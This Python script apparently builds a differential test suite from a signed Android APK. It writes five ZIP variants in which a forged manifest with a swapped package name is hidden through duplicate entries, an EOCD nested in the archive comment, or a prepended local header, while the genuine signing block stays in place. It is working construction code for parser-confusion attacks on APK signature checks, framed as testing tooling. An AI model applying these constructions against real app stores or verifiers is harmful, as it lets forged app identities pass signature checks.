#!/usr/bin/env python3
"""Builds the ZIP constructions of the differential suite from one signed APK.

    forge_apk.py SIGNED_APK OUTDIR OLD_PACKAGE NEW_PACKAGE

The forged manifest is the genuine AndroidManifest.xml with OLD_PACKAGE's UTF-16 string
replaced by NEW_PACKAGE (same length, so the binary XML stays valid). OUTDIR receives:

  forged-only.zip        a plain ZIP holding just the forged manifest
  dup-genuine-first.apk  a second AndroidManifest.xml entry (forged) listed after the genuine one
  dup-forged-first.apk   the same with the forged entry listed first in the central directory
  eocd-in-comment.apk    the genuine APK whose EOCD comment holds a forged local header, a
                         central directory naming it and a second EOCD (not at the very end)
  prepended-local.apk    a forged local entry before the first genuine one; central
                         directory offsets shifted so directory readers still see the genuine one

The APK Signing Block is kept right before the central directory in each, so a reader that
does not verify digests still finds the genuine signer. Prints one JSON line:
{"genuine": sha256 of the genuine manifest, "forged": sha256 of the forged one}.
"""

import hashlib
import io
import json
import os
import struct
import sys
import zipfile
import zlib

MANIFEST = b"AndroidManifest.xml"


def eocd_of(data):
    at = len(data) - 22
    assert data[at : at + 4] == b"PK\x05\x06", "expected an EOCD without comment"
    (_, _, _, _, count, cd_size, cd_off, _) = struct.unpack("<IHHHHIIH", data[at:])
    return count, cd_size, cd_off


def cd_records(cd):
    out, at = [], 0
    while at < len(cd):
        nlen, xlen, clen = struct.unpack("<HHH", cd[at + 28 : at + 34])
        end = at + 46 + nlen + xlen + clen
        out.append(cd[at:end])
        at = end
    return out


def with_offset(rec, delta):
    off = struct.unpack("<I", rec[42:46])[0] + delta
    return rec[:42] + struct.pack("<I", off) + rec[46:]


def stored_entry(data, offset):
    """A stored AndroidManifest.xml: (local header + data, central directory record)."""
    crc = zlib.crc32(data)
    common = struct.pack("<HHHHHIIIH", 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(MANIFEST))
    local = b"PK\x03\x04" + common + struct.pack("<H", 0) + MANIFEST + data
    central = (
        b"PK\x01\x02"
        + struct.pack("<H", 20)
        + common
        + struct.pack("<HHHHII", 0, 0, 0, 0, 0, offset)
        + MANIFEST
    )
    return local, central


def eocd(count, cd_size, cd_off, comment=b""):
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, cd_size, cd_off, len(comment)) + comment


def signing_block_start(data, cd_off):
    # The block ends with its size and the magic; the same size leads it.
    assert data[cd_off - 16 : cd_off] == b"APK Sig Block 42", "no APK Signing Block"
    size = struct.unpack("<Q", data[cd_off - 24 : cd_off - 16])[0]
    return cd_off - size - 8


def main():
    src, outdir, old, new = sys.argv[1:5]
    assert len(old) == len(new)
    data = open(src, "rb").read()
    genuine = zipfile.ZipFile(io.BytesIO(data)).read(MANIFEST.decode())
    forged = genuine.replace(old.encode("utf-16-le"), new.encode("utf-16-le"))
    assert forged != genuine, "package string not found in the manifest"
    os.makedirs(outdir, exist_ok=True)
    write = lambda name, b: open(os.path.join(outdir, name), "wb").write(b)

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo(MANIFEST.decode(), (2024, 1, 1, 0, 0, 0)), forged)
    write("forged-only.zip", buf.getvalue())

    count, cd_size, cd_off = eocd_of(data)
    block_at = signing_block_start(data, cd_off)
    locals_, block, cd = data[:block_at], data[block_at:cd_off], data[cd_off : cd_off + cd_size]

    # Duplicate entry names: the forged local entry goes after the genuine ones.
    local, central = stored_entry(forged, len(locals_))
    new_cd_off = len(locals_) + len(local) + len(block)
    for name, order in (("dup-genuine-first.apk", cd + central), ("dup-forged-first.apk", central + cd)):
        write(name, locals_ + local + block + order + eocd(count + 1, len(order), new_cd_off))

    # A second EOCD (and the central directory it names) inside the real EOCD's comment.
    comment_at = len(data)  # the real EOCD stays at len(data) - 22; its comment starts here
    local, central = stored_entry(forged, comment_at)
    fake_cd_off = comment_at + len(local)
    comment = local + central + eocd(1, len(central), fake_cd_off) + b"trailing"
    write("eocd-in-comment.apk", data[:-22] + eocd(count, cd_size, cd_off, comment))

    # A forged local entry before the first genuine one.
    local, _ = stored_entry(forged, 0)
    shifted = b"".join(with_offset(r, len(local)) for r in cd_records(cd))
    write(
        "prepended-local.apk",
        local + locals_ + block + shifted + eocd(count, len(shifted), cd_off + len(local)),
    )

    print(json.dumps({
        "genuine": hashlib.sha256(genuine).hexdigest(),
        "forged": hashlib.sha256(forged).hexdigest(),
    }))


if __name__ == "__main__":
    main()
